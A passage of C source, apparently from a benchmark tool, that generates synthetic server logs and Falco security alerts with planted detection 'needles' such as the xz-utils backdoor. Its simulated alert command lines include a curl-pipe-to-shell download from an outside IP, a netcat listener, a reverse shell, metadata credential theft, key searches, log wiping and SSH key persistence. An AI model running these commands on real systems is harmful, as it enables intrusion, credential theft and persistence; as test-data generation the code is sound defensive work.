                tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, h->pid_nginx,
                h->pid_nginx, reqn, ip, rng_below(c->rng, 16), 2 + rng_below(c->rng, 200));
            who(r, "http_request", "failure", NULL, ip, 0);
        }
        break;
    }
    case R_MAIL: {
        const char *ip = attacker(c);
        uint32_t pid = new_pid(c);
        double k = rng_unit(c->rng);
        if (k < 0.5) {
            if ((r = line(c, "postfix/smtpd", pid, F_MAIL, S_INFO))) {
                msg(r, "connect from unknown[%s]", ip);
                who(r, "smtp_connect", "", NULL, ip, 0);
            }
            if ((r = line(c, "postfix/smtpd", pid, F_MAIL, S_WARNING))) {
                msg(r, "warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", ip);
                who(r, "smtp_auth", "failure", NULL, ip, 0);
            }
            if ((r = line(c, "postfix/smtpd", pid, F_MAIL, S_INFO)))
                msg(r, "disconnect from unknown[%s] ehlo=1 auth=0/1 rset=1 quit=1 commands=3/4", ip);
        } else if (k < 0.75) {
            if ((r = line(c, "postfix/smtpd", pid, F_MAIL, S_INFO))) {
                msg(r, "NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <info@%s.example>: Relay access denied; "
                       "from=<spameri@tiscali.it> to=<info@%s.example> proto=ESMTP helo=<User>",
                    ip, h->name, h->name);
                who(r, "smtp_relay", "failure", NULL, ip, 0);
            }
        } else {
            const char *u = c->w->persons[zipf_pick(&c->w->person_z, c->rng)];
            const char *lip = internal_ip(c);
            char sess[17];
            hex_of(rng_next(c->rng), 0, sess, 16);
            if ((r = line(c, "dovecot", pid, F_MAIL, S_INFO))) {
                msg(r, "imap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=10.0.5.10, mpid=%u, TLS, session=<%s>", u,
                    lip, new_pid(c), sess);
                who(r, "imap_login", "success", u, lip, 0);
            }
        }
        break;
    }
    case R_CI: {
        char cid[65];
        hex_of(rng_next(c->rng), rng_next(c->rng), cid, 64);
        if (chance(c->rng, 0.6)) {
            if ((r = line(c, "dockerd", h->pid_dockerd, F_DAEMON, S_INFO)))
                msg(r, "time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=info msg=\"ignoring event\" container=%s "
                       "module=libcontainerd namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"",
                    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                    rng_below(c->rng, 1000000000), cid);
        } else {
            int ok = chance(c->rng, 0.85);
            if ((r = line(c, "gitlab-runner", h->pid_app, F_DAEMON, ok ? S_INFO : S_WARNING)))
                msg(r, "Job %s duration_s=%.3f job=%u project=%u runner=%.8s", ok ? "succeeded" : "failed: exit code 1",
                    5 + rng_unit(c->rng) * 900, 1000000 + rng_below(c->rng, 9000000), 1 + rng_below(c->rng, 400), cid);
        }
        break;
    }
    default: {
        double k = rng_unit(c->rng);
        if (k < 0.6) {
            if ((r = line(c, "app-server", h->pid_app, F_USER, S_INFO)))
                msg(r, "%04d-%02d-%02d %02d:%02d:%02d.%03u INFO  [http-nio-8080-exec-%u] c.e.orders.OrderController : Order "
                       "%u created for customer %u",
                    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                    rng_below(c->rng, 1000), 1 + rng_below(c->rng, 200), rng_below(c->rng, 90000000),
                    rng_below(c->rng, 2000000));
        } else if (k < 0.85) {
            if ((r = line(c, "app-server", h->pid_app, F_USER, S_WARNING)))
                msg(r, "%04d-%02d-%02d %02d:%02d:%02d.%03u WARN  [HikariPool-1 housekeeper] com.zaxxer.hikari.pool.HikariPool "
                       ": HikariPool-1 - Connection is not available, request timed out after 30000ms.",
                    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                    rng_below(c->rng, 1000));
        } else if ((r = line(c, "app-server", h->pid_app, F_USER, S_ERR))) {
            msg(r, "%04d-%02d-%02d %02d:%02d:%02d.%03u ERROR [payments-%u] c.e.payments.Gateway : Payment provider timeout "
                   "after 10000 ms (orderId=%u)",
                tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, rng_below(c->rng, 1000),
                rng_below(c->rng, 16), rng_below(c->rng, 90000000));
        }
        break;
    }
    }
}

static void needle_line(gen *c, const needle *nd) {
    eg_logrec *r;
    if (nd->kind == 0) {
        if (nd->variant == 2) {
            if ((r = line(c, "unattended-upgrade", new_pid(c), F_DAEMON, S_WARNING)))
                msg(r, "Packages that will be upgraded: liblzma5 xz-utils (security update for %s)", EG_NEEDLE_CVE);
        } else if ((r = line(c, "debsecan", new_pid(c), F_USER, S_NOTICE))) {
            msg(r, "%s %s (remotely exploitable, high urgency)", EG_NEEDLE_CVE, nd->variant ? "liblzma5" : "xz-utils");
            field(r, "cve", EG_NEEDLE_CVE);
        }
        if (r)
            c->w->counts.cve_2024_3094++;
    } else if ((r = line(c, "aide", new_pid(c), F_USER, S_WARNING))) {
        const char *f = nd->variant ? "/usr/local/bin/kdevtmpfsi" : "/tmp/.X25-unix/kdevtmpfsi";
        msg(r, "added: %s sha256=%s", f, EG_NEEDLE_SHA256);
        field(r, "file", f);
        field(r, "sha256", EG_NEEDLE_SHA256);
        c->w->counts.dropped_binary_sha256++;
    }
}

static void format_raw(const eg_host *h, eg_logrec *r) {
    time_t secs = (time_t)(r->time_ms / 1000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    char ts[96], tag[96];
    if (h->rfc3339)
        snprintf(ts, sizeof(ts), "%04d-%02d-%02dT%02d:%02d:%02d.%06d+00:00", tm.tm_year + 1900, tm.tm_mon + 1,
                 tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, (int)(r->time_ms % 1000) * 1000);
    else
        strftime(ts, sizeof(ts), "%b %e %H:%M:%S", &tm);
    if (r->pid)
        snprintf(tag, sizeof(tag), "%s[%u]:", r->program, r->pid);
    else
        snprintf(tag, sizeof(tag), "%s:", r->program);
    if (strcmp(r->program, "kernel") == 0) {
        double up = (double)(r->time_ms - h->boot_ms) / 1000.0;
        snprintf(r->raw, sizeof(r->raw), "%s %s %s [%12.6f] %s", ts, h->name, tag, up, r->message);
    } else if (strcmp(r->program, "sudo") == 0 && strncmp(r->message, "pam_unix", 8) != 0) {
        snprintf(r->raw, sizeof(r->raw), "%s %s sudo:    %s", ts, h->name, r->message);
    } else {
        snprintf(r->raw, sizeof(r->raw), "%s %s %s %s", ts, h->name, tag, r->message);
    }
}

void eg_world_host_logs(eg_world *w, int host, int64_t t0_ms, int64_t t1_ms, eg_logrec *recs, int n) {
    eg_host *h = &w->hosts[host];
    int *group = calloc(n > 0 ? (size_t)n : 1, sizeof(int));
    if (!group) { /* out of memory: empty lines rather than a crash in a benchmark tool */
        for (int i = 0; i < n; i++)
            memset(&recs[i], 0, sizeof(recs[i]));
        return;
    }
    gen c = {.w = w, .h = h, .rng = &w->rng, .recs = recs, .n = 0, .room = n, .group = group, .g = 0};
    int64_t span = t1_ms - t0_ms;
    if (span < 1)
        span = 1;

    /* needles in this window replace the first lines */
    for (int i = 0; i < w->n_needles; i++) {
        needle *nd = &w->needles[i];
        if (!nd->done && nd->host == host && nd->time_ms >= t0_ms && nd->time_ms < t1_ms && c.n < c.room) {
            needle_line(&c, nd);
            recs[c.n - 1].time_ms = nd->time_ms;
            nd->done = 1;
            c.g++;
        }
    }
    int first_ordinary = c.n;

    /* scenarios start evenly through the window (with jitter), their lines a few hundred ms apart;
     * templates that embed their own timestamp get the scenario's start */
    int64_t *gt = calloc((size_t)c.room + 1, sizeof(int64_t));
    double slot = (double)span / (double)(c.room > 0 ? c.room : 1);
    while (c.n < c.room) {
        int64_t at = t0_ms + (int64_t)(slot * ((double)c.n + rng_unit(c.rng)));
        if (gt)
            gt[c.g] = at;
        double k = rng_unit(c.rng);
        if (k < h->attack_share) {
            sc_ssh_attack(&c);
        } else {
            double s = rng_unit(c.rng);
            if (s < 0.19)
                sc_cron(&c);
            else if (s < 0.34)
                sc_systemd(&c);
            else if (s < 0.42)
                sc_ssh_session(&c);
            else if (s < 0.5)
                sc_sudo(&c);
            else if (s < 0.51)
                sc_su(&c);
            else if (s < 0.57)
                sc_kernel(&c);
            else if (s < 0.63)
                sc_misc(&c);
            else if (h->role == R_BASTION)
                sc_misc(&c);
            else
                sc_role(&c, at);
        }
        c.g++;
    }
    int64_t step = 0;
    for (int i = first_ordinary; i < c.n; i++) {
        int g = group[i];
        step = (i > first_ordinary && group[i - 1] == g) ? step + 1 + rng_below(c.rng, 400) : 0;
        int64_t t = (gt ? gt[g] : t0_ms) + step;
        recs[i].time_ms = t < t1_ms ? t : t1_ms - 1;
    }
    free(gt);
    free(group);

    for (int i = 0; i < c.n; i++) {
        eg_logrec *r = &recs[i];
        str_copy(r->hostname, sizeof(r->hostname), h->name);
        format_raw(h, r);
        uint64_t *off = strcmp(r->source, "auth") == 0 ? &h->off_auth : &h->off_syslog;
        r->offset = *off;
        *off += strlen(r->raw) + 1;
    }
}

/* ---- Falco alerts ---- */

typedef struct {
    char *p;
    size_t len, cap;
    int full;
} jbuf;

static void jb_raw(jbuf *b, const char *s, size_t n) {
    if (b->full || b->len + n + 1 > b->cap) {
        b->full = 1;
        return;
    }
    memcpy(b->p + b->len, s, n);
    b->len += n;
    b->p[b->len] = '\0';
}

static void jb_s(jbuf *b, const char *s) { jb_raw(b, s, strlen(s)); }

static void jb_str(jbuf *b, const char *s) {
    jb_raw(b, "\"", 1);
    for (; *s; s++) {
        unsigned char ch = (unsigned char)*s;
        if (ch == '"' || ch == '\\') {
            char e[2] = {'\\', (char)ch};
            jb_raw(b, e, 2);
        } else if (ch < 0x20) {
            char e[8];
            snprintf(e, sizeof(e), "\\u%04x", ch);
            jb_s(b, e);
        } else {
            jb_raw(b, s, 1);
        }
    }
    jb_raw(b, "\"", 1);
}

/* output_fields: "key":"value" (comma handled by *first) */
static void jb_kv(jbuf *b, int *first, const char *k, const char *v) {
    if (!*first)
        jb_raw(b, ",", 1);
    *first = 0;
    jb_str(b, k);
    jb_raw(b, ":", 1);
    if (v)
        jb_str(b, v);
    else
        jb_s(b, "null");
}

static void jb_kn(jbuf *b, int *first, const char *k, int64_t v) {
    char n[24];
    snprintf(n, sizeof(n), "%" PRId64, v);
    if (!*first)
        jb_raw(b, ",", 1);
    *first = 0;
    jb_str(b, k);
    jb_raw(b, ":", 1);
    jb_s(b, n);
}

enum falco_kind {
    FK_TERMINAL_SHELL,
    FK_K8S_API,
    FK_READ_SENSITIVE,
    FK_READ_SENSITIVE_TRUSTED,
    FK_RUN_SHELL_UNTRUSTED,
    FK_PKG_MGMT,
    FK_NET_TOOL,
    FK_DROP_EXEC,
    FK_SYSTEM_USER,
    FK_SEARCH_KEYS,
    FK_CLEAR_LOG,
    FK_REDIRECT,
    FK_METADATA,
    FK_PRIV_CONTAINER,
    FK_CRON,
    FK_SSH_KEYS,
    FK_DISALLOWED_K8S_USER,
    FK_ATTACH_EXEC,
    FK_SA_CREATED,
    FK_BACKDOOR_SSHD,
};

static const struct {
    enum falco_kind kind;
    const char *rule, *priority, *source, *tags, *desc;
    double weight;
} falco_rules[] = {
    {FK_TERMINAL_SHELL, "Terminal shell in container", "Notice", "syscall",
     "[\"maturity_stable\",\"container\",\"shell\",\"mitre_execution\",\"T1059\"]",
     "A shell was spawned in a container with an attached terminal", 24},
    {FK_K8S_API, "Contact K8S API Server From Container", "Notice", "syscall",
     "[\"maturity_stable\",\"container\",\"network\",\"k8s\",\"mitre_discovery\",\"T1565\"]",
     "Unexpected connection to K8s API Server from container", 12},
    {FK_READ_SENSITIVE, "Read sensitive file untrusted", "Warning", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"filesystem\",\"mitre_credential_access\",\"T1555\"]",
     "Sensitive file opened for reading by non-trusted program", 4},
    {FK_READ_SENSITIVE_TRUSTED, "Read sensitive file trusted after startup", "Warning", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"filesystem\",\"mitre_credential_access\",\"T1555\"]",
     "Sensitive file opened for reading by trusted program after startup", 2},
    {FK_RUN_SHELL_UNTRUSTED, "Run shell untrusted", "Notice", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"process\",\"shell\",\"mitre_execution\",\"T1059.004\"]",
     "Shell spawned by untrusted binary", 8},
    {FK_PKG_MGMT, "Launch Package Management Process in Container", "Error", "syscall",
     "[\"maturity_incubating\",\"container\",\"process\",\"software_mgmt\",\"mitre_persistence\",\"T1505\"]",
     "Package management process launched in container", 9},
    {FK_NET_TOOL, "Launch Suspicious Network Tool in Container", "Notice", "syscall",
     "[\"maturity_incubating\",\"container\",\"network\",\"process\",\"mitre_execution\",\"T1059\"]",
     "Network tool launched in container", 6},
    {FK_DROP_EXEC, "Drop and execute new binary in container", "Critical", "syscall",
     "[\"maturity_stable\",\"container\",\"process\",\"mitre_persistence\",\"TA0003\",\"PCI_DSS_11.5.1\"]",
     "Executing binary not part of base image", 3},
    {FK_SYSTEM_USER, "System user interactive", "Informational", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"users\",\"mitre_execution\",\"T1059\",\"NIST_800-53_AC-2\"]",
     "System user ran an interactive command", 2},
    {FK_SEARCH_KEYS, "Search Private Keys or Passwords", "Warning", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"process\",\"mitre_credential_access\",\"T1552.001\"]",
     "Grep private keys or passwords activities found", 1},
    {FK_CLEAR_LOG, "Clear Log Activities", "Warning", "syscall",
     "[\"maturity_stable\",\"host\",\"container\",\"filesystem\",\"mitre_defense_evasion\",\"T1070\",\"NIST_800-53_AU-"
     "10\"]",
     "Log files were tampered", 1},
    {FK_REDIRECT, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "syscall",
     "[\"maturity_stable\",\"container\",\"network\",\"process\",\"mitre_execution\",\"T1059\"]",
     "Redirect stdout/stdin to network connection", 1},
    {FK_METADATA, "Contact cloud metadata service from container", "Notice", "syscall",
     "[\"maturity_incubating\",\"network\",\"container\",\"mitre_discovery\",\"T1565\"]",
     "Outbound connection to cloud instance metadata service", 2},
    {FK_PRIV_CONTAINER, "Launch Privileged Container", "Informational", "syscall",
     "[\"maturity_incubating\",\"container\",\"cis\",\"mitre_execution\",\"T1610\",\"PCI_DSS_10.2.5\"]",
     "Privileged container started", 3},
    {FK_CRON, "Schedule Cron Jobs", "Notice", "syscall",
     "[\"maturity_incubating\",\"host\",\"container\",\"filesystem\",\"mitre_execution\",\"T1053.003\"]",
     "Cron jobs were scheduled to run", 1},
    {FK_SSH_KEYS, "Adding ssh keys to authorized_keys", "Warning", "syscall",
     "[\"maturity_incubating\",\"host\",\"filesystem\",\"mitre_persistence\",\"T1098.004\"]",
     "Adding ssh keys to authorized_keys", 0.5},
    {FK_DISALLOWED_K8S_USER, "Disallowed K8s User", "Warning", "k8s_audit",
     "[\"k8s\"]", "K8s Operation performed by user not in allowed list of users", 10},
    {FK_ATTACH_EXEC, "Attach/Exec Pod", "Notice", "k8s_audit", "[\"k8s\",\"mitre_execution\"]", "Attach/Exec to pod",
     8},
    {FK_SA_CREATED, "K8s Serviceaccount Created", "Informational", "k8s_audit", "[\"k8s\"]",
     "K8s Serviceaccount Created", 1.5},
    {FK_BACKDOOR_SSHD, "Backdoored library loaded into SSHD (CVE-2024-3094)", "Warning", "syscall",
     "[\"maturity_incubating\",\"host\",\"container\",\"mitre_initial_access\",\"T1556\"]",
     "SSHD loaded a backdoored version of liblzma library", 0},
};

static const char *const images[] = {"docker.io/library/nginx",       "docker.io/library/alpine",
                                     "docker.io/library/busybox",     "registry.internal/shop/checkout",
                                     "registry.internal/shop/orders", "registry.internal/shop/frontend",
                                     "quay.io/prometheus/prometheus", "registry.k8s.io/kube-proxy",
                                     "docker.io/bitnami/postgresql",  "ghcr.io/argoproj/argocd",
                                     "docker.io/library/python",      "docker.io/library/node",
                                     "registry.internal/payments/payment-api", "docker.io/grafana/grafana"};

size_t eg_world_falco(eg_world *w, int64_t index, int64_t t_ms, char *out, size_t outlen) {
    eg_rng *rng = &w->rng;
    int is_needle = index == w->falco_needle[0] || index == w->falco_needle[1];
    size_t ri = 0;
    if (is_needle) {
        ri = ARRAY_LEN(falco_rules) - 1;
    } else {
        double total = 0;
        for (size_t i = 0; i < ARRAY_LEN(falco_rules); i++)
            total += falco_rules[i].weight;
        double u = rng_unit(rng) * total, acc = 0;
        for (ri = 0; ri < ARRAY_LEN(falco_rules) - 1; ri++) {
            acc += falco_rules[ri].weight;
            if (u < acc)
                break;
        }
    }
    enum falco_kind kind = falco_rules[ri].kind;
    int audit = strcmp(falco_rules[ri].source, "k8s_audit") == 0;
    /* host-level rules fire on Proxmox nodes and other hosts too; container rules on k8s nodes */
    int on_host = !audit && (kind == FK_BACKDOOR_SSHD || kind == FK_SSH_KEYS ||
                             ((kind == FK_READ_SENSITIVE || kind == FK_SYSTEM_USER || kind == FK_SEARCH_KEYS ||
                               kind == FK_CLEAR_LOG || kind == FK_RUN_SHELL_UNTRUSTED || kind == FK_CRON) &&
                              chance(rng, 0.35)));
    const char *hostname;
    if (audit)
        hostname = w->hosts[w->k8s_nodes[rng_below(rng, 5)]].name; /* the control plane */
    else if (on_host)
        hostname = w->hosts[kind == FK_BACKDOOR_SSHD ? find_host(w, index == w->falco_needle[0] ? "proxmox-node-02"
                                                                                                  : "bastion-01")
                                                     : (int)rng_below(rng, (uint32_t)w->n_hosts)]
                       .name;
    else
        hostname = w->hosts[w->k8s_nodes[rng_below(rng, (uint32_t)w->n_k8s_nodes)]].name;

    gen c = {.w = w, .rng = rng};
    char pod[96];
    const char *ns = NULL;
    pod_name(&c, pod, sizeof(pod), &ns);
    char cid[13], fullcid[65], uuid[37], hx[33];
    hex_of(rng_next(rng), rng_next(rng), fullcid, 64);
    memcpy(cid, fullcid, 12);
    cid[12] = '\0';
    hex_of(rng_next(rng), rng_next(rng), hx, 32);
    snprintf(uuid, sizeof(uuid), "%.8s-%.4s-4%.3s-a%.3s-%.12s", hx, hx + 8, hx + 12, hx + 15, hx + 18);
    const char *image = PICK(rng, images);
    char tag[16];
    snprintf(tag, sizeof(tag), "%u.%u.%u", 1 + rng_below(rng, 3), rng_below(rng, 30), rng_below(rng, 12));

    time_t secs = (time_t)(t_ms / 1000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    int64_t ns_time = t_ms * 1000000 + rng_below(rng, 1000000);
    char iso[48], hms[32];
    snprintf(iso, sizeof(iso), "%04d-%02d-%02dT%02d:%02d:%02d.%09dZ", tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday,
             tm.tm_hour, tm.tm_min, tm.tm_sec, (int)(ns_time % 1000000000));
    snprintf(hms, sizeof(hms), "%02d:%02d:%02d.%09d", tm.tm_hour, tm.tm_min, tm.tm_sec, (int)(ns_time % 1000000000));

    /* the rule's own fields, as "key=value" text and as output_fields */
    const char *user = "root", *proc = "sh", *pname = "runc", *cmdline = "sh", *exepath = "/bin/sh", *file = NULL,
               *conn = NULL, *tty = "34816";
    int uid = 0;
    char cmdbuf[256], connbuf[96];
    switch (kind) {
    case FK_TERMINAL_SHELL:
        proc = PICK(rng, ((const char *const[]){"sh", "bash", "ash"}));
        exepath = strcmp(proc, "bash") == 0 ? "/bin/bash" : "/bin/sh";
        pname = PICK(rng, ((const char *const[]){"runc", "containerd-shim", "runc:[2:INIT]"}));
        cmdline = PICK(rng, ((const char *const[]){"sh", "bash -il", "sh -c clear; (bash || ash || sh)", "sh -c uptime",
                                                   "bash"}));
        break;
    case FK_K8S_API:
        proc = PICK(rng, ((const char *const[]){"curl", "handler", "kubectl", "python3", "fetcher"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "%s %s", proc,
                 PICK(rng, ((const char *const[]){"-sk https://kubernetes.default.svc/api/v1/secrets",
                                                  "get pods -A", "-secret-dir /secrets -cfgmap-dir /configs",
                                                  "/app/watch.py"})));
        cmdline = cmdbuf;
        exepath = "/usr/bin/curl";
        pname = "sh";
        tty = "0";
        snprintf(connbuf, sizeof(connbuf), "10.42.%u.%u:%u->10.96.0.1:443", rng_below(rng, 64), 2 + rng_below(rng, 250),
                 eph_port(&c));
        conn = connbuf;
        break;
    case FK_READ_SENSITIVE:
    case FK_READ_SENSITIVE_TRUSTED:
        file = chance(rng, 0.55) ? "/etc/shadow"
                                 : PICK(rng, ((const char *const[]){"/etc/sudoers", "/etc/pam.d/common-auth",
                                                                    "/etc/security/pwquality.conf", "/etc/gshadow"}));
        proc = PICK(rng, ((const char *const[]){"cat", "python3", "event-generator", "vim", "less", "node"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "%s %s", proc, file);
        cmdline = cmdbuf;
        exepath = "/usr/bin/cat";
        pname = PICK(rng, ((const char *const[]){"bash", "sh", "containerd-shim", "sudo"}));
        break;
    case FK_RUN_SHELL_UNTRUSTED:
        pname = PICK(rng, ((const char *const[]){"httpd", "node", "java", "php-fpm", "python3"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "sh -c %s",
                 PICK(rng, ((const char *const[]){"id", "uname -a", "curl -s http://45.148.10.95/x.sh | sh",
                                                  "cat /etc/passwd", "ls -la /root"})));
        cmdline = cmdbuf;
        tty = "0";
        break;
    case FK_PKG_MGMT:
        proc = PICK(rng, ((const char *const[]){"apt-get", "apk", "yum", "pip", "dpkg"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "%s %s", proc,
                 PICK(rng, ((const char *const[]){"update", "add --no-cache curl", "install -y netcat-openbsd",
                                                  "install requests"})));
        cmdline = cmdbuf;
        exepath = "/usr/bin/apt-get";
        pname = "sh";
        tty = "0";
        break;
    case FK_NET_TOOL:
        proc = PICK(rng, ((const char *const[]){"nc", "nmap", "socat", "tcpdump", "ncat"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "%s %s", proc,
                 PICK(rng, ((const char *const[]){"-zv 10.42.0.1 1-1024", "-sS 10.96.0.0/12", "-lvnp 4444",
                                                  "-i eth0 -w /tmp/cap.pcap"})));
        cmdline = cmdbuf;
        exepath = "/usr/bin/nc";
        tty = "0";
        break;
    case FK_DROP_EXEC:
        proc = PICK(rng, ((const char *const[]){"kdevtmpfsi", "xmrig", "kinsing", "openssl", "busybox"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "/tmp/%s", proc);
        cmdline = cmdbuf;
        exepath = cmdbuf;
        pname = "sh";
        tty = "0";
        break;
    case FK_SYSTEM_USER:
        user = PICK(rng, ((const char *const[]){"daemon", "www-data", "nobody", "bin"}));
        uid = 2;
        proc = "login";
        cmdline = "login";
        exepath = "/bin/busybox";
        break;
    case FK_SEARCH_KEYS:
        proc = "grep";
        cmdline = "grep -r BEGIN RSA PRIVATE / --include=*.pem";
        exepath = "/usr/bin/grep";
        break;
    case FK_CLEAR_LOG:
        proc = "truncate";
        file = PICK(rng, ((const char *const[]){"/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp"}));
        snprintf(cmdbuf, sizeof(cmdbuf), "truncate -s 0 %s", file);
        cmdline = cmdbuf;
        exepath = "/usr/bin/truncate";
        break;
    case FK_REDIRECT:
        proc = "bash";
        cmdline = "bash -i";
        snprintf(connbuf, sizeof(connbuf), "10.42.%u.%u:%u->%s:4444", rng_below(rng, 64), 2 + rng_below(rng, 250),
                 eph_port(&c), attacker(&c));
        conn = connbuf;
        tty = "0";
        break;
    case FK_METADATA:
        proc = "curl";
        cmdline = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/";
        exepath = "/usr/bin/curl";
        snprintf(connbuf, sizeof(connbuf), "10.42.%u.%u:%u->169.254.169.254:80", rng_below(rng, 64),
                 2 + rng_below(rng, 250), eph_port(&c));
        conn = connbuf;
        tty = "0";
        break;
    case FK_PRIV_CONTAINER:
        proc = "pause";
        cmdline = "/pause";
        exepath = "/pause";
        pname = "containerd-shim";
        tty = "0";
        break;
    case FK_CRON:
        proc = "crontab";
        file = "/var/spool/cron/crontabs/root";
        cmdline = "crontab -e";
        exepath = "/usr/bin/crontab";
        break;
    case FK_SSH_KEYS:
        proc = "bash";
        file = "/root/.ssh/authorized_keys";
        cmdline = "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI... >> /root/.ssh/authorized_keys";
        tty = "0";
        break;
    case FK_BACKDOOR_SSHD:
        proc = "sshd";
        pname = "systemd";
        file = "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0";
        cmdline = "sshd -D";
        exepath = "/usr/sbin/sshd";
        tty = "0";
        break;
    default:
        break;
    }

    jbuf b = {.p = out, .cap = outlen};
    char text[1400];
    jbuf t = {.p = text, .cap = sizeof(text)};
    text[0] = '\0';
    jb_s(&t, hms);
    jb_s(&t, ": ");
    jb_s(&t, falco_rules[ri].priority);
    jb_s(&t, " ");
    if (kind == FK_BACKDOOR_SSHD) {
        char d[700];
        snprintf(d, sizeof(d), "SSHD loaded a backdoored version of liblzma library %s with parent %s and cmdline %s",
                 file, pname, cmdline);
        jb_s(&t, d);
    } else {
        jb_s(&t, falco_rules[ri].desc);
    }

    char kv[1000];
    if (audit) {
        const char *kuser = kind == FK_ATTACH_EXEC ? "kubernetes-admin"
                                                   : PICK(rng, ((const char *const[]){"system:serviceaccount:ci:deployer",
                                                                                      "csi-cinder-controller", "yacht",
                                                                                      "oidc:jdoe@example.com"}));
        const char *verb = kind == FK_ATTACH_EXEC ? "create"
                                                  : PICK(rng, ((const char *const[]){"patch", "update", "delete", "get"}));
        const char *res = kind == FK_ATTACH_EXEC ? "pods" : kind == FK_SA_CREATED ? "serviceaccounts" : "secrets";
        const char *cmd = PICK(rng, ((const char *const[]){"sh", "bash", "cat", "env"}));
        if (kind == FK_ATTACH_EXEC)
            snprintf(kv, sizeof(kv), " (user=%s pod=%s resource=pods ns=%s action=exec command=%s)", kuser, pod, ns, cmd);
        else if (kind == FK_SA_CREATED)
            snprintf(kv, sizeof(kv), " (user=%s serviceaccount=%.40s ns=%s resource=serviceaccounts resp=201 "
                                     "decision=allow reason=)",
                     kuser, pod, ns);
        else
            snprintf(kv, sizeof(kv), " (user=%s target=%s/%s verb=%s uri=/api/v1/namespaces/%s/%s/%s resp=%s)", kuser,
                     pod, res, verb, ns, res, pod, chance(rng, 0.7) ? "200" : "403");
        jb_s(&t, kv);
        if (t.full)
            return 0;
        jb_s(&b, "{\"hostname\":");
        jb_str(&b, hostname);
        jb_s(&b, ",\"output\":");
        jb_str(&b, text);
        jb_s(&b, ",\"output_fields\":{");
        int first = 1;
        jb_kn(&b, &first, "evt.time", ns_time);
        jb_kv(&b, &first, "ka.target.name", pod);
        jb_kv(&b, &first, "ka.target.namespace", ns);
        jb_kv(&b, &first, "ka.target.resource", res);
        jb_kv(&b, &first, "ka.user.name", kuser);
        jb_kv(&b, &first, "ka.verb", verb);
        if (kind == FK_ATTACH_EXEC)
            jb_kv(&b, &first, "ka.uri.param[command]", cmd);
        else
            jb_kv(&b, &first, "ka.response.code", kind == FK_SA_CREATED ? "201" : "200");
        jb_s(&b, "}");
    } else {
        char fbit[200] = "", cbit[140] = "";
        if (file)
            snprintf(fbit, sizeof(fbit), "file=%s ", file);
        if (conn)
            snprintf(cbit, sizeof(cbit), "connection=%s ", conn);
        if (on_host)
            snprintf(kv, sizeof(kv),
                     " | %s%sevt_type=%s user=%s user_uid=%d user_loginuid=%d process=%s proc_exepath=%s parent=%s "
                     "command=%s terminal=%s container_id=host container_name=host",
                     fbit, cbit, file ? "openat" : "execve", user, uid, uid ? -1 : 1000, proc, exepath, pname, cmdline,
                     tty);
        else
            snprintf(kv, sizeof(kv),
                     " | %s%sevt_type=%s user=%s user_uid=%d user_loginuid=-1 process=%s proc_exepath=%s parent=%s "
                     "command=%s terminal=%s container_id=%s container_image_repository=%s container_image_tag=%s "
                     "k8s_pod_name=%s k8s_ns_name=%s",
                     fbit, cbit, conn ? "connect" : file ? "openat" : "execve", user, uid, proc, exepath, pname, cmdline,
                     tty, cid, image, tag, pod, ns);
        jb_s(&t, kv);
        if (t.full)
            return 0;
        jb_s(&b, "{\"hostname\":");
        jb_str(&b, hostname);
        jb_s(&b, ",\"output\":");
        jb_str(&b, text);
        jb_s(&b, ",\"output_fields\":{");
        int first = 1;
        jb_kv(&b, &first, "container.id", on_host ? "host" : cid);
        if (!on_host) {
            jb_kv(&b, &first, "container.image.repository", image);
            jb_kv(&b, &first, "container.image.tag", tag);
            jb_kv(&b, &first, "container.name", pod);
        }
        jb_kv(&b, &first, "evt.time.iso8601", iso);
        jb_kv(&b, &first, "evt.type", conn ? "connect" : file ? "openat" : "execve");
        if (file)
            jb_kv(&b, &first, "fd.name", file);
        if (conn)
            jb_kv(&b, &first, "fd.name", conn);
        if (!on_host) {
            jb_kv(&b, &first, "k8s.ns.name", ns);
            jb_kv(&b, &first, "k8s.pod.name", pod);
        }
        jb_kv(&b, &first, "proc.cmdline", cmdline);
        jb_kv(&b, &first, "proc.exepath", exepath);
        jb_kv(&b, &first, "proc.name", proc);
        jb_kv(&b, &first, "proc.pname", pname);
        jb_kn(&b, &first, "proc.tty", strcmp(tty, "0") == 0 ? 0 : 34816);
        jb_kn(&b, &first, "user.loginuid", -1);
        jb_kv(&b, &first, "user.name", user);
        jb_kn(&b, &first, "user.uid", uid);
        jb_s(&b, "}");
    }
    jb_s(&b, ",\"priority\":");
    jb_str(&b, falco_rules[ri].priority);
    jb_s(&b, ",\"rule\":");
    jb_str(&b, falco_rules[ri].rule);
    jb_s(&b, ",\"source\":");
    jb_str(&b, falco_rules[ri].source);
    jb_s(&b, ",\"tags\":");
